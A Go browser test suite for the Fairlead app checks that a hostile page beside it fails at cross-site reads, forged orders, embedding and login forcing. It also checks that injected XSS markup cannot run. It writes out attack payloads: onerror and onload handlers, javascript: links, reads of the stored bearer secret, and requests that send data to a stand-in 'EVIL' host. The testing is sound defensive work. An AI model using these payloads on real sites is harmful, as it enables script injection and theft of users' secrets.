package uitest_test

import (
	"encoding/json"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/fairlead-dev/fairlead/internal/test/attacks"
	"github.com/fairlead-dev/fairlead/internal/test/uitest"
)

// Threats of SECURITY.md.
const (
	otherSite = "A page of another site reads answers or gives orders"
	embedding = "A page of another site embeds the page or loads parts of it"
	foreignIn = "A page of another site signs the browser in, or gets a secret from it"
	becomes   = "Text of an agent becomes code in the page"
)

// beside is Fairlead's page and a hostile one in one browser.
type beside struct {
	s         *uitest.Server
	own, evil *uitest.Page
	base      string // of Fairlead's page
	from      string // of the hostile page
}

// script evaluates an expression, in which BASE, EVIL, CODE and AUTH stand for the addresses, a new login code and the header
// of the page's secret. It gives nothing, or what is wrong.
func (b *beside) script(p *uitest.Page, expression string) string {
	text := strings.NewReplacer("BASE", b.base, "EVIL", b.from, "AUTH",
		`{Authorization: 'Bearer ' + localStorage.getItem('fairlead.secret')}`).Replace(expression)
	if strings.Contains(text, "CODE") {
		code, _ := b.s.Logins.NewCode()
		text = strings.ReplaceAll(text, "CODE", code)
	}
	return uitest.Eval[string](p, text)
}

// held reports whether the team is held, which is what the hostile page orders.
func (b *beside) held(t *testing.T) bool {
	var team struct {
		Hold bool `json:"hold"`
	}
	if err := json.Unmarshal(b.s.Do("GET", "/agents", nil), &team); err != nil {
		t.Fatal(err)
	}
	return team.Hold
}

// Expressions that wait for the end of what an element loads.
const (
	loaded = `((tag, about) => new Promise(end => { const e = document.createElement(tag); Object.assign(e, about); e.onload = () => end('it was loaded'); e.onerror = () => end(''); document.body.append(e); }))`
	// inject puts markup into Fairlead's own page, as if a text had become markup there. It gives what then ran.
	inject = `((markup, act) => new Promise(end => { delete window.owned; const e = document.createElement('div'); e.innerHTML = markup; document.body.append(e); act?.(e);
		addEventListener('securitypolicyviolation', () => end(window.owned ? 'it has run' : ''), {once: true}); }))`
)

func attemptsInABrowser() []attacks.Attempt[*beside] {
	reads := `fetch('/api/v1/agents', {headers: AUTH}).then(r => r.ok ? '' : 'status ' + r.status)`
	asEvil := func(name, threat, expression, permitted string) attacks.Attempt[*beside] {
		return attacks.Attempt[*beside]{
			Name: name, Threat: threat,
			Try: func(t *testing.T, b *beside) {
				logins := len(b.s.Logins.List())
				if why := b.script(b.evil,
					"(async () => { try { return await "+expression+
						"; } catch (e) { return /Failed to fetch/.test(e.message) ? '' : String(e); } })()"); why != "" {
					t.Error(why)
				}
				if b.held(t) {
					t.Error("the team is held")
				}
				if n := len(b.s.Logins.List()); n != logins {
					t.Errorf("%d logins became %d", logins, n)
				}
			},
			Allowed: func(t *testing.T, b *beside) {
				if why := b.script(b.own, permitted); why != "" {
					t.Error(why)
				}
			},
		}
	}
	inPage := func(name, expression string) attacks.Attempt[*beside] {
		return attacks.Attempt[*beside]{
			Name: name, Threat: becomes,
			Try: func(t *testing.T, b *beside) {
				if why := b.script(b.own, expression); why != "" {
					t.Error(why)
				}
			},
			Allowed: func(t *testing.T, b *beside) {
				if why := b.script(b.own,
					`import(document.querySelector('script[type=module]').src).then(() => document.querySelector('.masthead') ? '' : 'the page is gone')`); why != "" {
					t.Error(why)
				}
			},
		}
	}
	orders := `fetch('/api/v1/hold', {method: 'POST', headers: {...AUTH, 'Content-Type': 'application/json'}, body: '{}'}).then(() => fetch('/api/v1/unhold', {method: 'POST', headers: {...AUTH, 'Content-Type': 'application/json'}, body: '{}'})).then(r => r.ok ? '' : 'status ' + r.status)`
	ownPart := `import(document.querySelector('script[type=module]').src).then(() => '')`
	return []attacks.Attempt[*beside]{
		asEvil("fetch reads", otherSite, `fetch('BASEapi/v1/agents').then(() => 'it was read', () => '')`, reads),
		asEvil("fetch reads with a secret", otherSite,
			`fetch('BASEapi/v1/agents', {headers: {Authorization: 'Bearer x'}}).then(() => 'it was read', () => '')`, reads),
		asEvil("fetch without CORS reads", otherSite,
			`fetch('BASEapi/v1/agents', {mode: 'no-cors'}).then(async r => r.status || await r.text() ? 'it was read' : '')`, reads),
		asEvil("fetch without CORS orders", otherSite,
			`fetch('BASEapi/v1/hold', {mode: 'no-cors', method: 'POST', body: '{}'}).then(r => r.status ? 'it was answered' : '')`, orders),
		asEvil("a beacon orders", otherSite,
			`Promise.resolve(navigator.sendBeacon('BASEapi/v1/hold', new Blob(['{}'], {type: 'text/plain'}))).then(() => fetch('BASEapi/v1/agents', {mode: 'no-cors'})).then(() => '')`, orders),
		asEvil("a form in a frame orders", otherSite,
			`new Promise(end => { document.body.innerHTML += '<iframe name=in></iframe><form target=in method=post enctype=text/plain action="BASEapi/v1/hold"><input name=a value=b></form>'; document.querySelector('iframe').onload = () => end(''); document.querySelector('form').submit(); })`, orders),
		asEvil("a stream of events", otherSite,
			`new Promise(end => { const s = new EventSource('BASEapi/v1/events?after=0'); s.onopen = s.onmessage = () => end('it is open'); s.onerror = () => { s.close(); end(''); }; })`, reads),
		asEvil("a web socket", otherSite,
			`new Promise(end => { const s = new WebSocket('BASEapi/v1/events'.replace('http', 'ws')); s.onopen = () => end('it is open'); s.onerror = () => end(''); })`, reads),
		asEvil("the time and status of a request", otherSite,
			`fetch('BASEapi/v1/agents', {mode: 'no-cors'}).then(() => performance.getEntriesByType('resource').filter(e => e.name.startsWith('BASE') && (e.responseStatus || e.transferSize)).map(e => e.name).join())`, reads),
		asEvil("data as an image", embedding, loaded+`('img', {src: 'BASEapi/v1/agents'})`, reads),
		asEvil("the icon as an image", embedding, loaded+`('img', {src: 'BASEfavicon.svg'})`, reads),
		asEvil("data as a script", embedding, loaded+`('script', {src: 'BASEapi/v1/agents'})`, reads),
		asEvil("the page as a script", embedding, loaded+`('script', {src: 'BASE'})`, ownPart),
		asEvil("a module of the page", embedding, `import('BASEapp.js').then(() => 'it was loaded', () => '')`, ownPart),
		asEvil("data as a style", embedding, loaded+`('link', {rel: 'stylesheet', href: 'BASEapi/v1/agents'})`, reads),
		asEvil("a worker", embedding,
			`new Promise(end => { try { new Worker('BASEapp.js').onerror = () => end(''); } catch { end(''); } })`, ownPart),
		asEvil("a service worker", embedding, `navigator.serviceWorker.register('BASEapp.js').then(() => 'it is registered', () => '')`,
			ownPart),
		asEvil("a login with a code", foreignIn,
			`fetch('BASEapi/v1/logins', {mode: 'no-cors', method: 'POST', body: '{"code":"CODE"}'}).then(r => r.status ? 'it was answered' : '')`, reads),
		asEvil("what the browser has stored", foreignIn, `(localStorage.getItem('fairlead.secret') ?? '') + document.cookie`,
			`localStorage.getItem('fairlead.secret') ? '' : 'the page has no secret'`),

		inPage("an image with a handler", inject+`('<img src=x onerror="window.owned = 1">')`),
		inPage("an SVG with a handler",
			inject+`('<svg onload="window.owned = 1"></svg><svg><a onclick="window.owned = 1"></a></svg>', e => e.querySelector('a').dispatchEvent(new Event('click')))`),
		inPage("a script in the page",
			inject+`('', e => { const s = document.createElement('script'); s.textContent = 'window.owned = 1'; e.append(s); })`),
		inPage("a script of another host",
			inject+`('', e => { const s = document.createElement('script'); s.src = 'EVILowned.js'; e.append(s); })`),
		inPage("a link to a script", inject+`('<a href="javascript:window.owned = 1">x</a>', e => e.firstChild.click())`),
		inPage("a text that is evaluated",
			`new Promise(end => setTimeout(() => { try { end(eval("'it has run'")); } catch { end(''); } }))`),
		inPage("a module in an address", `import('data:text/javascript,window.owned = 1').then(() => 'it has run', () => '')`),
		inPage("a frame of another host", inject+`('<iframe src="EVIL"></iframe>')`),
		inPage("a frame with a document of its own",
			inject+`('<iframe srcdoc="<script>parent.owned = 1</script>"></iframe><img src=x onerror="1">')`),
		inPage("a form to another host", inject+`('<form method=post action="EVIL"></form>', e => e.firstChild.submit())`),
		inPage("another base of all addresses", inject+`('<base href="EVIL">')`),
		inPage("data sent to another host", `fetch('EVIL?secret', {mode: 'no-cors'}).then(() => 'it was sent', () => '')`),
		inPage("an image that tells another host", inject+`('<img src="EVIL?secret">')`),
		inPage("a style that tells another host", inject+`('<link rel=stylesheet href="EVILa.css">')`),
		{
			Name: "the note of an order", Threat: becomes,
			Try: func(t *testing.T, b *beside) {
				note, err := json.Marshal(map[string]string{"note": uitest.Lie})
				if err != nil {
					t.Fatal(err)
				}
				b.s.Do("POST", "/agents/coder/stop", strings.NewReader(string(note)))
				b.own.WaitText("body", "<img src=x onerror")
				showsText(t, b.own, "the note")
			},
			Allowed: func(t *testing.T, b *beside) {
				b.s.Do("POST", "/agents/coder/stop", strings.NewReader(`{"note":"until lunch"}`))
				b.own.WaitText("body", "until lunch")
			},
		},
	}
}

// TestHostilePage opens a hostile page beside Fairlead's own in one browser, and puts markup into Fairlead's page as if a text had
// become that. What is tried without a browser is in the package server.
func TestHostilePage(t *testing.T) {
	t.Parallel()
	s := uitest.NewServer(t, uitest.OneAgent)
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, ".js") {
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = w.Write([]byte("window.owned = 1"))
			return
		}
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte("<!doctype html><title>evil</title><body>"))
	}))
	t.Cleanup(site.Close)
	_, port, err := net.SplitHostPort(site.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	base, _, _ := strings.Cut(s.URL, "?token=")
	b := &beside{s: s, own: uitest.Browse(t), evil: uitest.Browse(t), base: base, from: "http://localhost:" + port + "/"}
	b.own.Open(s.URL + "#/agents/coder")
	b.own.WaitText(".roster", "coder")
	b.evil.Visit(b.from)
	attacks.Run(t, 30, func(*testing.T) *beside { return b }, attemptsInABrowser())
}
